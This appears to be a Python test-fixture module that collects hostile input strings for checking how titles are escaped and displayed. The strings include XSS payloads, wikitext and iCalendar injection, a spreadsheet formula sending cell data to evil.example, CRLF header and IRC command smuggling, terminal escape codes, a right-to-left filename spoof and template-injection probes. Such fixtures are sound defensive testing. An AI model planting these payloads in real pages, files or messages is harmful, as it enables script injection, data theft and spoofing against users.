"""Words that people could say to do harm, and how they stand where they are only words."""

from __future__ import annotations

import unicodedata

from commands.grammar import straight

HOSTILE = {
    "HTML": "</script></title><img src=x onerror=alert(1)><b onclick='alert(2)'>&lt;i&gt; &amp;#0;",
    "wikitext": "{{subst:Foo}} [[Category:Owned]] ~~~~ <nowiki> </noinclude> --> <!-- ''' ]] }}",
    "iCalendar": 'a\\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Second; , " \\; \\, : é' + "ö" * 90,
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"Click") +1-1 @SUM(1+9)',
    "lines": "One\r\nBcc: all@example.org\r\n\r\nTwo\nQUIT :bye\x00\x01ACTION x\x01\u2028Three",
    "colours": "\x02bold\x0304,01red\x1f\x16\x1d\x11\x7f\x9b31m\x1b[31m",
    "right to left": "\u202egnp.exe\u202c \u2066isolate \u2067מילים\u2069 \u200fend",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻 e\u0301\u0302 " * 6,
    "calls": "@everyone @admins_of @user@example.org #free ＃now https://evil.example/x /halt",
    "braces": "%s %(name)s {title} {0.__class__} {{ 7*7 }} {% raw %} ${x} $user",
    "bars": "| field: value | [[a|b]] |} || \\| ;--",
    "script": '</ScRiPt><svg/onload=alert(3)>" onmouseover="alert(4) javascript:alert(5)',
}
LONG = "Long <b>&amp;</b> {{x}} ünïcode, \\n; " * 280
"""About 10 kB, of which no desk takes a title."""

RAW = {**HOSTILE, "10 kB": LONG, "one word": "x" * 10_000}


def read(text: str) -> str:
    """Return what somebody reads of a text: nothing that is no text, and one kind of space."""
    return " ".join(straight(text).split())


def letters(text: str) -> str:
    """Return the letters of a text, without spaces and without what nobody sees."""
    composed = unicodedata.normalize("NFC", straight(text))
    return "".join(composed.translate(_UNSEEN).split())


_UNSEEN = dict.fromkeys((0x200E, 0x200F, 0x2060, 0xFEFF, 0xFFFD))
"""Marks and joiners, and the sign that stands for what XML does not allow."""


def is_title(shown: str, title: str) -> bool:
    """Return whether it is the title, or as much of it as there is room for."""
    words = letters(shown).rstrip("…")
    return words == letters(title) or (len(words) > 30 and letters(title).startswith(words))
